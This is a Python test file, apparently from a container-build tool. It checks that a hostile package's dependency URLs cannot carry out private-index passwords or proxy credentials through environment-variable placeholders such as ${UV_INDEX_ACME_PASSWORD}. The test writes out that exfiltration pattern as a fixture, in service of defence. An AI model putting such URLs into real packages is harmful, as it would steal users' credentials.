"""Foreign packages learn no password of an index, and no public package stands in for a private one."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.containers.images.conftest import Workshop
from tests.containers.images.server import Server, serving, wheel

VARIABLES = (
    "UV_INDEX",
    "UV_DEFAULT_INDEX",
    "UV_INDEX_URL",
    "UV_EXTRA_INDEX_URL",
    "UV_INDEX_ACME_PASSWORD",
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "HTTP_PROXY",
    "FTP_PROXY",
    "ftp_proxy",
)
SETUP = """
from setuptools import setup
setup(name={name!r}, version="1.0", py_modules=[], install_requires={requires!r})
"""


@pytest.fixture
def server(workshop: Workshop) -> Iterator[Server]:
    with serving(workshop.client) as made:
        yield made


def test_what_a_wheel_asks_for_is_filled_in_with_no_setting_of_this_host(
    workshop: Workshop, server: Server
) -> None:
    evil = f"evil{workshop.mark}"
    folder = workshop.root / "packages" / evil
    folder.mkdir(parents=True)
    requires = []
    for number, name in enumerate(VARIABLES):
        leak = f"leak{number}{workshop.mark}"
        server.foreign[f"{leak}-1.0-py3-none-any.whl"] = wheel(leak)
        address = f"http://{server.address}/taken/{leak}-1.0-py3-none-any.whl?${{{name}}}"
        requires.append(f"{leak} @ {address}")
    (folder / "setup.py").write_text(SETUP.format(name=evil, requires=requires))
    server.private[f"{workshop.mark}-1.0-py3-none-any.whl"] = wheel(workshop.mark)
    environ = {
        **workshop.environ,
        # The index is found by the proxy alone: uv goes on by the settings that it still has.
        "UV_INDEX": "acme=http://index.invalid/private/simple",
        "UV_INDEX_ACME_USERNAME": "reader",
        "UV_INDEX_ACME_PASSWORD": "hunter2-of-the-index",
        "UV_EXTRA_INDEX_URL": server.private_index,
        "HTTP_PROXY": f"http://someone:hunter2-of-the-proxy@{server.address}",
        "FTP_PROXY": "http://someone:hunter2-of-the-proxy@127.0.0.1:9",
    }
    source = workshop.source(requirements=(f"./packages/{evil}", workshop.mark))
    image = workshop.images(source, environ=environ).ensure(workshop.describe(source))
    assert workshop.mark in image.packages
    assert "http://index.invalid/private/simple/" in " ".join(server.asked)
    taken = [path for path in server.asked if "/taken/" in path]
    assert len({path.partition("-1.0")[0] for path in taken}) == len(VARIABLES)
    assert [path for path in taken if "hunter2" in path] == []
